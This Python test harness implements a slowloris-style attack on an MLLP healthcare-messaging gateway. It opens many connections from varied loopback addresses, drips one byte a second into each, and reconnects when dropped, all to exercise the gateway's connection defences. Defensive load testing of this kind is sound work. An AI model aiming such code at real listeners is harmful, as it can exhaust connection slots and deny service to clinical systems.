"""A slow-connection attack on an MLLP listener, for testing the gateway's defences.

Many connections from several source addresses, each opening a frame and then sending one
byte a second (slowloris): enough, before the defences of docs/security.md, to hold every
connection slot for as long as they liked. Each connection that the gateway closes is
opened again after a pause, as a determined attacker would. Source addresses are loopback
addresses other than 127.0.0.1 (Linux routes all of 127.0.0.0/8 to the loopback), so one
machine plays many peers.

A sender only: it never reads what the gateway answers, and never imports the gateway.
"""

from __future__ import annotations

import asyncio
import contextlib
from dataclasses import dataclass


def loopback_addresses(count: int, *, third: int = 1) -> list[str]:
    """``count`` loopback source addresses ``127.0.<third>.1`` onwards (up to 254 each)."""
    return [f"127.0.{third + n // 254}.{1 + n % 254}" for n in range(count)]


@dataclass(slots=True)
class AttackCounts:
    opened: int = 0
    """Connections the gateway accepted (the TCP handshake completed)."""
    closed: int = 0
    """Connections the gateway closed on the attacker (deadline, eviction, refusal)."""
    failed: int = 0
    """Connection attempts that failed outright."""


class SlowAttack:
    """``connections`` slow senders spread over ``addresses``; ``await attack.run(stop)``."""

    def __init__(
        self,
        port: int,
        *,
        connections: int,
        addresses: list[str],
        host: str = "127.0.0.1",
        byte_every_s: float = 1.0,
        reconnect_after_s: float = 1.0,
    ) -> None:
        self.host, self.port = host, port
        self.connections = connections
        self.addresses = addresses
        self.byte_every_s = byte_every_s
        self.reconnect_after_s = reconnect_after_s
        self.counts = AttackCounts()

    async def run(self, stop: asyncio.Event) -> None:
        """Attack until ``stop`` is set."""
        async with asyncio.TaskGroup() as group:
            for n in range(self.connections):
                source = self.addresses[n % len(self.addresses)]
                group.create_task(self._one(source, stop, delay_s=n * 0.002))

    async def _one(self, source: str, stop: asyncio.Event, delay_s: float) -> None:
        await asyncio.sleep(delay_s)  # not all in the same millisecond
        while not stop.is_set():
            try:
                reader, writer = await asyncio.open_connection(
                    self.host, self.port, local_addr=(source, 0)
                )
            except OSError:
                self.counts.failed += 1
                await _pause(stop, self.reconnect_after_s)
                continue
            self.counts.opened += 1
            closed = asyncio.ensure_future(reader.read())  # b"" or a reset: the gateway closed
            try:
                writer.write(b"\x0bMSH|^~\\&|")
                while not stop.is_set() and not closed.done():
                    await asyncio.wait({closed}, timeout=self.byte_every_s)
                    if not closed.done():
                        writer.write(b"A")
            except ConnectionError:
                pass
            if closed.done():
                self.counts.closed += 1
                if not closed.cancelled():
                    closed.exception()  # a reset is expected: retrieved, not reported
            else:
                closed.cancel()
            writer.close()
            with contextlib.suppress(ConnectionError, OSError):
                await writer.wait_closed()
            await _pause(stop, self.reconnect_after_s)


async def _pause(stop: asyncio.Event, seconds: float) -> None:
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(stop.wait(), seconds)
